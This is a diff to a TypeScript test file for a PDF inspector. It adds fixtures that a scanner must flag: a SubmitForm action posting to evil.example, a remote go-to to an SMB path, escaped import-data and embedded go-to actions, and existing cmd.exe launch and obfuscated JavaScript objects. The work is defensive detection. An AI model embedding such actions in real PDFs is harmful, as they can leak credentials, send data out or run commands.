@@ -23,6 +23,10 @@ describe('inspectPdf', () => {
     ['hex-escaped names in an object stream', { objectStream: true, catalog: '/OpenAction 4 0 R', objects: ['<< /S /J#61vaScript /#4a#53 (x) >>'] }, ['script']],
     ['only /JS, its action type escaped past recognition', { objectStream: true, objects: ['<< /S /Foo /JS (x) >>'] }, ['script']],
     ['a launch action', { objectStream: true, catalog: '/OpenAction 4 0 R', objects: ['<< /S /Launch /F (cmd.exe) >>'] }, ['launch']],
+    ['a form submission', { objectStream: true, objects: ['<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>'] }, ['submitForm']],
+    ['a data import, escaped', { catalog: '/OpenAction 4 0 R', objects: ['<< /S /Import#44ata /F (x.fdf) >>'] }, ['importData']],
+    ['a remote go-to to an SMB path, escaped', { catalog: '/OpenAction 4 0 R', objects: ['<< /S /GoTo#52 /F (\\\\\\\\evil\\\\s\\\\a.pdf) /D [0 /Fit] >>'] }, ['remoteGoTo']],
+    ['an embedded go-to in an object stream, fully escaped', { objectStream: true, objects: ['<< /S /#47#6F#54#6F#45 /T << /R /C /N (a) >> >>'] }, ['remoteGoTo']],
     ['an embedded file (escaped name tree key)', { objectStream: true, catalog: '/Names << /Embedded#46iles 4 0 R >>', objects: ['<< /Names [(a.exe) 5 0 R] >>'] }, ['embeddedFile']],
     ['a file specification with /EF', { objectStream: true, objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'] }, ['embeddedFile']],
     ['a file attachment annotation', { objects: ['<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>'] }, ['embeddedFile']],
@@ -33,6 +37,12 @@ describe('inspectPdf', () => {
     ['an encryption dictionary in the trailer', { trailer: '/Encrypt << /Filter /Standard /V 5 >> ' }, ['encrypted']],
   ] as const)('finds %s', async (_label, parts, expected) => {
     expect(features(await inspectPdf(buildPdf(parts)))).toEqual(expected);
+  });
+
+  it('lets plain web links and go-tos within the document pass', async () => {
+    const links = ['<< /S /URI /URI (https://www.example.org/) >>', '<< /S /GoTo /D [3 0 R /Fit] >>', '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (mailto:a@b.tw) >> >>'];
+    expect(features(await inspectPdf(buildPdf({ objects: links })))).toEqual([]);
+    expect(features(await inspectPdf(buildPdf({ objectStream: true, objects: links })))).toEqual([]);
   });
 
   it('finds what qpdf put in object streams: an OpenAction script, an attached file; and an encrypted file', async () => {
